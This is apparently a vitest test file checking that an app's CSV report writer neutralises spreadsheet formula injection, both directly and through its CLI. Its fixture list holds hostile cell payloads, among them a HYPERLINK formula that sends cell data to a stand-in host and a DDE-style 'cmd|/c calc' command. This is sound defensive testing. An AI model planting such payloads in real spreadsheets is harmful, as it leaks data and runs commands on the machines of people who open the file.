import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { XML_MEDIA_TYPE } from '../../../electron/adapters/observations/observation-sink.js';
import { csvField } from '../../../electron/core/analysis/report/table-writers.js';
import { REPO_ROOT } from '../../support/fixtures.js';
import { graphFileBytes } from '../../support/graph-file.js';
import { runCli } from '../../support/cli.js';
import { useTempDirs } from '../../support/temp-dir.js';

const PNG_1PX = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const DUMP = gzipSync(readFileSync(`${REPO_ROOT}test/fixtures/ui-dumps/05-bili-1080x2400.xml`));
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+1+cmd|/c calc', '-2+3', '@SUM(1,1)', '\t=1', '\r=1'];

describe('CSV reports opened in a spreadsheet', () => {
  const tmp = useTempDirs();

  it('writes no cell a spreadsheet would run as a formula, and keeps numbers numbers', () => {
    for (const f of FORMULAS) expect(csvField(f)).toMatch(/^"?'/);
    expect(csvField(-0.25)).toBe('-0.25');
    expect(csvField('SR −0.05')).toBe('SR −0.05');
    expect(csvField('a=b')).toBe('a=b');
  });

  // Before: a task field beginning with =, +, -, @ went into the CSV as it was.
  it('neutralises task fields in `report --format csv` played through the CLI', () => {
    const ws = tmp();
    const file = join(tmp(), 'formula.ebgraph');
    writeFileSync(
      file,
      graphFileBytes(
        [
          { bytes: PNG_1PX, mediaType: 'image/png' },
          { bytes: DUMP, mediaType: XML_MEDIA_TYPE },
        ],
        'formula-task',
        { mode: 'offline', app: FORMULAS[0], annotations: { syntactic: 'Elliptical', semantic: 'Indirect Speech', scenario: FORMULAS[3] } },
      ),
    );
    expect(runCli(['--workspace', ws, 'graph', 'import', file]).code).toBe(0);
    expect(runCli(['--workspace', ws, 'run', '--mode', 'offline', '--agent', 'random', '--tasks', 'formula-task']).code).toBe(0);
    const r = runCli(['--workspace', ws, 'report', '--format', 'csv']);
    expect(r.code).toBe(0);
    // The report names the app and the scenario somewhere; each only as text.
    expect(r.stdout).toContain(`'=HYPERLINK(`);
    expect(r.stdout).toContain(`'@SUM(1,1)`);
    const cells = r.stdout
      .split(/\r\n\r\n/)
      .filter((block) => block.trim())
      .flatMap((block) => (parse(block, { relax_column_count: true }) as string[][]).flat());
    expect(cells.length).toBeGreaterThan(10);
    for (const c of cells) expect(c).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  }, 180_000);
});
